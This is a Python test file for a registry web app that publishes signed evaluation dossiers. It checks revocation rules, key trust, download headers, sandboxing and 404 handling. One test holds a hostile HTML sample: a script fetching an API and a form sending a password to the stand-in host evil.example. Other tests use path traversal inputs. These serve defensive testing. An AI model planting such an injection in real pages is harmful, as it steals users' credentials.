"""What people do beside a result, and that none of it lets an author close one; and what a publication's files may do."""

from __future__ import annotations

from pathlib import Path

import pytest
from starlette.testclient import TestClient

from tests.dossier.statements import made
from tests.registry.databases import put, signed
from tests.web.doors import signed_in
from tests.web.registry.conftest import root
from tests.web.registry.forms import PAGE, asked, publish_as
from weighbridge.dossier.statements.keys import KeyKind, PrivateKey, new_key
from weighbridge.protocol.vocabulary import Verdict
from weighbridge.registry.accounts.roles import Role
from weighbridge.registry.asked import Published
from weighbridge.registry.audit import verify_audit
from weighbridge.registry.lookup import files_of
from weighbridge.registry.store import Store
from weighbridge.registry.upload import Upload
from weighbridge.web.registry import publications

MAINTAINER, RESEARCHER, VISITOR = (signed_in(each) for each in (Role.MAINTAINER, Role.RESEARCHER, Role.VISITOR))


def path_of(found: Published) -> str:
    return f"/publications/{found.publication.removeprefix('sha256:')}"


def test_an_author_answers_under_their_own_name_and_closes_nothing(
    client: TestClient, store: Store, trusted: None, key: PrivateKey, tmp_path: Path
) -> None:
    """Whoever is signed in answers; nobody below a maintainer revokes; the adverse result counts on."""
    found = publish_as(store, tmp_path / "bad", key, Verdict.MATERIAL_INCREASE)
    path, notice = path_of(found), f"/api/v1/notices/{found.subject.removeprefix('sha256:')}"
    assert client.post(f"{path}/answer", data={"text": "no"}).status_code == 401
    for headers in (VISITOR, RESEARCHER):
        assert client.post(f"{path}/revoke", data={"reason": "we do not like it"}, headers=headers).status_code == 403
    sent = client.post(f"{path}/answer", data={"text": "We disagree.", "by": "somebody else"}, headers=VISITOR)
    assert (sent.status_code, sent.headers["location"]) == (303, path)
    said = client.get(notice).json()
    assert (said["answer"], said["entries"][0]["stands"]) == ("not met", "current")
    [told] = said["entries"][0]["answers"]
    assert (told["by"], told["text"]) == ("ada", "We disagree.")
    assert "We disagree." in asked(client, path)
    for text in ("", " ", "x" * 10_001, "a\x00b"):
        assert client.post(f"{path}/answer", data={"text": text}, headers=VISITOR).status_code in (400, 422)
    with store.reading() as connection:
        assert verify_audit(connection).entries == 4  # begun, trusted, published, answered


def test_a_maintainer_revokes_once_with_a_reason_that_everybody_sees(
    client: TestClient, published: Published, upload: Upload
) -> None:
    """The publication stays, marked; a second time is 409, and without a reason it is refused."""
    path = path_of(published)
    assert client.post(f"{path}/revoke", data={"reason": " "}, headers=MAINTAINER).status_code == 400
    assert client.post(f"{path}/revoke", data={"reason": "wrong rubric"}, headers=MAINTAINER).status_code == 303
    assert client.post(f"{path}/revoke", data={"reason": "another"}, headers=MAINTAINER).status_code == 409
    for each in (path, f"/weights/{root(upload)}"):
        text = asked(client, each)
        assert "wrong rubric" in text and "ada" in text and "another" not in text
    assert client.post(f"/publications/{'0' * 64}/revoke", data={"reason": "x"}, headers=MAINTAINER).status_code == 404


def test_a_maintainer_trusts_a_key_and_an_old_publication_is_checked_again(
    client: TestClient, store: Store, upload: Upload, key: PrivateKey, tmp_path: Path
) -> None:
    """By its PEM and a name; a private key is refused and not repeated; others may not."""
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

    found = put(store, upload)
    assert not found.signer_known
    path = path_of(found)
    assert client.post(f"{path}/check", headers=signed_in(Role.TESTER)).status_code == 409
    pem = key.public.key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo).decode()
    form = {"pem": pem, "name": "The Evaluators"}
    assert client.post("/signers", data=form, headers=RESEARCHER).status_code == 403
    new_key(tmp_path / "private", KeyKind.ED25519)
    private = (tmp_path / "private").read_text()
    for wrong in (private, "no key", pem[:40], ""):
        told = client.post("/signers", data={"pem": wrong, "name": "x"}, headers=MAINTAINER | PAGE)
        assert told.status_code in (400, 422) and "PRIVATE KEY" not in told.text and private[40:60] not in told.text
    assert client.post("/signers", data=form, headers=MAINTAINER).status_code == 303
    assert client.post("/signers", data=form, headers=MAINTAINER).status_code == 400
    page = asked(client, "/signers")
    assert "The Evaluators" in page and key.public.keyid in page
    assert "Signer not known here" in asked(client, f"/weights/{root(upload)}")
    assert client.post(f"{path}/check", headers=signed_in(Role.TESTER)).status_code == 303
    assert "Signer not known here" not in asked(client, f"/weights/{root(upload)}")


@pytest.mark.parametrize("limit", [1 << 20, 100], ids=["small", "large"])
def test_files_come_back_byte_for_byte_and_open_nothing(
    client: TestClient, published: Published, upload: Upload, monkeypatch: pytest.MonkeyPatch, limit: int
) -> None:
    """Each as an attachment that is not guessed at; from memory or, when large, from a disk."""
    monkeypatch.setattr(publications, "_LARGE_BYTES", limit)
    page = asked(client, path_of(published))
    for name, data in upload.files.items():
        found = client.get(f"{path_of(published)}/files/{name}")
        assert (found.status_code, found.content) == (200, data), name
        headers = found.headers
        assert headers["content-disposition"] == f'attachment; filename="{name.replace("/", "-")}"'
        assert headers["x-content-type-options"] == "nosniff" and headers["content-type"] == "application/octet-stream"
        assert "sandbox" in headers["content-security-policy"] and int(headers["content-length"]) == len(data)
        assert name in page
        tag = {"if-none-match": headers["etag"]}
        assert client.get(f"{path_of(published)}/files/{name}", headers=tag).status_code == 304


def test_a_dossiers_own_page_is_in_a_box(client: TestClient, store: Store, tmp_path: Path, upload: Upload) -> None:
    """It is a stranger's: no script, no form, no frame, nothing loaded, and not with our page's rights."""
    hostile = b"<script>fetch('/api')</script><form action='//evil.example'><input name=password></form>"
    folder = made.write(tmp_path / "hostile", made.record())
    (folder / "index.html").write_bytes(hostile)
    made.sign(folder, made.ed25519_key())
    from weighbridge.registry.upload import read_folder

    found = put(store, read_folder(folder))
    answered = client.get(f"{path_of(found)}/read/index.html", headers=PAGE)
    assert answered.content == hostile
    policy = [each.strip() for each in answered.headers["content-security-policy"].split(";")]
    assert "sandbox" in policy and "default-src 'none'" in policy and "form-action 'none'" in policy
    assert not [each for each in policy if each.startswith("script-src") or "allow-" in each]
    assert answered.headers["x-content-type-options"] == "nosniff"
    for name in ("card.md", "dossier.json", "../index.html", "index.htm", "statements"):
        assert client.get(f"{path_of(found)}/read/{name}").status_code == 404
        assert client.get(f"{path_of(found)}/files/..%2f{name}").status_code == 404


def test_what_is_not_there_is_404(client: TestClient) -> None:
    """A publication, a file of it, a closed model's impossible name: each says what to do."""
    nothing = "/publications/" + "0" * 64
    paths = (nothing, f"{nothing}/files/card.md", f"{nothing}/read/index.html", "/publications/x", "/closed/%20/x")
    for path in (*paths, f"/closed/a/{'b' * 121}", "/api/v1/notices/x", "/api/v1/closed/%0a/x"):
        found = client.get(path)
        assert found.status_code == 404 and found.json()["detail"], path
    assert client.get("/api/v1/candidates?prefix=abc").status_code == 400
    assert client.get("/api/v1/candidates").status_code == 422


def test_candidates_are_listed_for_programs(client: TestClient, published: Published, upload: Upload) -> None:
    """By 12 digits or more."""
    for prefix in (root(upload)[:12], "sha256:" + root(upload)[:20]):
        said = client.get("/api/v1/candidates", params={"prefix": prefix}).json()
        assert [each["digest"] for each in said["candidates"]] == ["sha256:" + root(upload)]
    assert client.get("/api/v1/candidates", params={"prefix": "0" * 12}).json()["candidates"] == []


def test_every_file_of_a_publication_is_listed(
    client: TestClient, store: Store, key: PrivateKey, tmp_path: Path
) -> None:
    """With its digest, so that who downloads can hold it against what was signed."""
    found = put(store, signed(tmp_path / "one", key))
    page = asked(client, path_of(found))
    with store.reading() as connection:
        for name, digest in files_of(connection, found.publication).items():
            assert name in page and digest.removeprefix("sha256:") in page
